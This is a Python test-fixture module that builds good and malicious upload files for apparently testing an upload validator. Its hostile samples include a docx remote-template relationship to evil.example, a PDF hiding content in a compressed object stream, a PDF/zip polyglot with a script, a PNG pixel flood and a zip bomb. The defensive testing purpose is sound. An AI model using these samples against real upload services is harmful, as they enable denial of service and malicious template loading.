"""Builders of good and bad uploads, made at test time (no binary blobs in the repo; T32–T37)."""

import io
import zipfile
import zlib

from PIL import Image

from tests.factories import MINIMAL_PDF

MB = 1024 * 1024
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:body><w:p><w:r><w:t>活动总结</w:t></w:r></w:p></w:body></w:document>'
)
REMOTE_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink").replace("t.dotm", "page.html")


def pdf(extra_catalog: bytes = b"", *, tail: bytes = b"") -> bytes:
    """The minimal PDF with `extra_catalog` entries in its catalogue and `tail` before %%EOF."""
    body = MINIMAL_PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + extra_catalog)
    return body.replace(b"%%EOF", tail + b"%%EOF") if tail else body


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF whose compressed object stream holds `hidden` (invisible to a plain byte search)."""
    packed = zlib.compress(b"4 0 " + hidden)
    stream = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return MINIMAL_PDF.replace(b"trailer", stream + packed + b"\nendstream\nendobj\ntrailer")


def pdf_with_picture(data: bytes, *, indirect_length: bool = False) -> bytes:
    """A PDF holding `data` as a picture stream, its /Length direct or in another object."""
    length = b"9 0 R" if indirect_length else str(len(data)).encode()
    picture = (b"6 0 obj\n<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length %s >>\nstream\n" % length
               + data + b"\nendstream\nendobj\n")
    if indirect_length:
        picture += b"9 0 obj\n%d\nendobj\n" % len(data)
    return MINIMAL_PDF.replace(b"trailer", picture + b"trailer")


def pdf_zip_polyglot() -> bytes:
    """A PDF with a zip appended: a PDF reader and an unzip tool both open it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return MINIMAL_PDF + buffer.getvalue()


def image(kind: str = "png", size=(64, 48), *, exif_gps: bool = False, mode: str = "RGB") -> bytes:
    picture = Image.new(mode, size, "red" if mode == "RGB" else 0)
    options = {}
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "PhoneMaker"  # Make
        exif[0x0112] = 6  # Orientation: rotate 90° to display
        exif.get_ifd(0x8825)[2] = (28.0, 41.0, 0.0)  # GPSLatitude: Nanchang
        options["exif"] = exif
    buffer = io.BytesIO()
    picture.save(buffer, "JPEG" if kind == "jpg" else "PNG", **options)
    return buffer.getvalue()


def png_pixel_flood(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header declares a huge picture (a decompression bomb's first step)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def docx(*, main: str = DOCX_MAIN, add: dict | None = None, replace: dict | None = None) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES.format(main=main), "_rels/.rels": ROOT_RELS,
             "word/document.xml": DOCUMENT, **(replace or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **(add or {})}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb_docx() -> bytes:
    """A docx of a few hundred KB whose parts unzip to more than 100 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN))
        archive.writestr("_rels/.rels", ROOT_RELS)
        with archive.open("word/document.xml", "w") as part:
            for _ in range(101):
                part.write(b" " * MB)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("list.csv", "a,b\n")
    return buffer.getvalue()
